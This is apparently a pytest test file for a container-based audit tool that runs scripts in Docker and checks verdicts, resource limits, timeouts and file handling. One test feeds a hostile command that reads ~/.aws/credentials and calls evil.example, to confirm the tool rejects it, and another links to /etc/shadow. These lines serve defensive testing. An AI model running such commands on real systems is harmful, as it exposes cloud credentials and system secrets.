"""Audits in a container: the same events, files and endings as here, many of them in one."""

from __future__ import annotations

from pathlib import Path

import pytest

from pytest_ato.audit import Options
from pytest_ato.model.container import INBOX
from pytest_ato.model.spec import Limits
from pytest_ato.model.verdict import Verdict
from pytest_ato.settings.grammar import Include
from pytest_ato.target import resolve

pytestmark = pytest.mark.docker


def test_an_ordinary_target_is_approved_and_the_report_says_where_it_ran(audit) -> None:
    outcome = audit("echo hello; exit 0")
    assert outcome.report.verdict is Verdict.APPROVE
    assert outcome.stdout == b"hello\n"
    provenance = outcome.report.provenance
    assert (provenance.runtime, provenance.loader) == ("docker", "core")
    assert provenance.privilege == "container with SYS_ADMIN, NET_ADMIN, SYS_PTRACE"


def test_many_audits_share_a_container_whose_inbox_is_emptied(audit, runtime, engine) -> None:
    audit("exit 0")
    first = runtime.container
    audit("exit 0")
    assert runtime.container is first
    stream, _ = engine.get_archive(first.id, INBOX)
    assert b"".join(stream).count(b"pytest-ato/") == 1  # the folder itself


def test_a_theft_is_seen(audit) -> None:
    outcome = audit("cat ~/.aws/credentials; wget -q -O- http://evil.example/")
    assert outcome.report.verdict is Verdict.REJECT
    assert "honeytoken_read" in {finding.detector for finding in outcome.examined.findings}


def test_companions_come_along_with_links_and_without_what_is_no_file(
    auditor, script, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    (data / "deep").mkdir(parents=True)
    (data / "deep/file").write_text("found\n")
    (data / "link").symlink_to("deep/file")
    (data / "outside").symlink_to("/etc/shadow")
    setuid = data / "setuid"
    setuid.write_text("")
    setuid.chmod(0o4755)
    target = resolve(
        str(script("cd /opt/data; cat link; ls -l; cat outside 2>&1", name="companions")),
        [Include(str(data), "/opt/data")],
    )
    outcome = auditor.audit(target, Options())
    lines = outcome.stdout.decode().splitlines()
    assert lines[0] == "found"
    assert any(line.startswith("-rwxr-xr-x") and line.endswith(" setuid") for line in lines)
    assert lines[-1] == "cat: outside: No such file or directory"


def test_limits_hold(audit) -> None:
    outcome = audit(
        "head -c 200000000 /dev/zero | tail", limits=Limits(memory=64 << 20), network="none"
    )
    assert outcome.report.verdict is Verdict.INCONCLUSIVE
    assert outcome.report.summary.limits_hit == ("memory",)


def test_a_time_limit_ends_it(audit) -> None:
    outcome = audit("sleep 600", timeout=1, network="none")
    assert outcome.report.ended.how == "timeout"
    assert outcome.report.verdict is Verdict.REVIEW


def test_a_program_that_the_image_has_otherwise_is_not_taken_for_the_image_s(
    auditor, tmp_path: Path
) -> None:
    """The sandbox shows the image's /usr: what is hashed here must be what runs there."""
    other = Path("/usr/local/bin/pytest-ato-test-program")
    other.write_text("#!/bin/sh\nexit 0\n")
    other.chmod(0o755)
    try:
        outcome = auditor.audit(resolve(str(other)), Options(network="none"))
    finally:
        other.unlink()
    assert outcome.report.verdict is Verdict.INCONCLUSIVE
    assert "the image" in " ".join(outcome.report.inconclusive)
